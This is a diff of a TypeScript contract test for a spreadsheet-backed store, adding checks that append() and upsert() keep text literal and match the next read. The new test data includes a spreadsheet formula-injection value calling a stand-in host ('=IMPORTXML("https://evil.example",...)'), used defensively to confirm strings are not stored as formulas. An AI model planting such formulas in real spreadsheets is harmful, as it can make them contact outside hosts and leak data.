@@ -182,6 +182,51 @@ export function describeStoreContract(name: string, createHarness: () => Promise
       expect(await h.store.readTab("Presenze")).toBeUndefined();
     });
 
+    test("readTabsForWrite() gives the tabs asked for as readAll() does, and leaves out a tab the store lacks", async () => {
+      await seedStandard(h);
+      const all = await h.store.readAll();
+      expect(await h.store.readTabsForWrite(["Buone prassi"])).toEqual({ "Buone prassi": all["Buone prassi"] });
+      expect(await h.store.readTabsForWrite(["Riunioni", "Buone prassi", "Presenze"])).toEqual({
+        Riunioni: all.Riunioni,
+        "Buone prassi": all["Buone prassi"],
+      });
+    });
+
+    test("what append() and upsert() answer, when they answer, is the tab as the next read gives it: columns moved, hand-typed rows, text kept literal", async () => {
+      await seedStandard(h);
+      await h.seed("Presenze", [
+        ["Risposta", "ID", "Commento", "Riunione", "Email", "Aggiornato", "Delegato"],
+        ["Partecipo", "a-1", "a mano", "m-1", "marco.ricci@example.it", null],
+        [null, null, null, null, null, null],
+        ["No", "a-2", null, "m-1", "anna@example.it", 46400.5],
+      ]);
+      const basis = (await h.store.readTabsForWrite(["Buone prassi", "Presenze"]))["Buone prassi"];
+      const appended = await h.store.append(
+        "Buone prassi",
+        [
+          { id: "p-2", date: jan19, title: '=IMPORTXML("https://evil.example","//a")', tags: "+39", ente: "Lugo" },
+          { id: "p-3", date: jan19, title: "Seconda\uFFFF", url: "" },
+        ],
+        basis,
+      );
+      if (appended !== undefined) expect(appended).toEqual(await h.store.readTab("Buone prassi"));
+      const presenze = (await h.store.readTabsForWrite(["Presenze"])).Presenze;
+      const upserted = await h.store.upsert(
+        "Presenze",
+        [
+          { id: "a-2", meetingId: "m-1", email: "anna@example.it", answer: "Partecipo", updatedAt: 46401.25 },
+          { id: "a-3", meetingId: "m-1", email: "nuova@example.it", answer: "Delego", delegate: "=1+1" },
+        ],
+        presenze,
+      );
+      if (upserted !== undefined) expect(upserted).toEqual(await h.store.readTab("Presenze"));
+      expect(decodePresenze(await h.store.readTab("Presenze")).records.map((a) => [a.id, a.answer, a.delegate])).toEqual([
+        ["a-1", "yes", ""],
+        ["a-2", "yes", ""],
+        ["a-3", "delegate", "=1+1"],
+      ]);
+    });
+
     test("append() puts values under their headers and keeps strings literal, never formulas", async () => {
       await seedStandard(h);
       await h.store.append("Buone prassi", [
